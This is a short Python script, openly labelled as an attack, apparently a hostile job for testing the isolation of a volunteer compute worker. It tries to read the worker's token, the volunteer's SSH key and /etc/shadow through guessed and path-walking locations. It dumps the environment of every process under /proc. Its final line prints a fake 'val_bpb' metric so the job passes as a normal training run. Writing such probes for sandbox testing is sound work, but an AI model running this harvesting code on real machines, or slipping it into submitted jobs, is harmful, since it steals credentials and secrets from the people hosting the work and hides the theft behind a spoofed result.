"""Attack: read the worker's token, the volunteer's ssh key, and secrets in environments."""

import os

HOME_GUESS = os.environ.get("HOSTILE_HOME", "/root")  # worst case: the attacker knows $HOME
GUESSES = [
    "~/.autoswarm/worker/token",
    "~/.ssh/id_rsa",
    # the work folder lies in the worker's state folder: walk up from it
    "../../token",
    "../../../token",
    "../../../../token",
    "../../../../../.ssh/id_rsa",
    "../../../../../../.ssh/id_rsa",
    f"{HOME_GUESS}/.autoswarm/worker/token",
    f"{HOME_GUESS}/.ssh/id_rsa",
    "/root/.autoswarm/worker/token",
    "/root/.ssh/id_rsa",
    "/etc/shadow",
]

for guess in GUESSES:
    path = os.path.expanduser(guess)
    try:
        with open(path) as f:
            print(f"LEAK {guess}: {f.read()!r}")
    except OSError as exc:
        print(f"blocked {guess}: {exc}")

# every environment this process can see: its own and every process in /proc
print("own environment:", dict(os.environ))
for pid in sorted(p for p in os.listdir("/proc") if p.isdigit()):
    try:
        with open(f"/proc/{pid}/environ", "rb") as f:
            print(f"environ of pid {pid}:", f.read().replace(b"\0", b" ").decode(errors="replace"))
    except OSError as exc:
        print(f"blocked /proc/{pid}/environ: {exc}")
print("processes visible:", sorted(p for p in os.listdir("/proc") if p.isdigit()))
print("---")
print("val_bpb: 1.0")
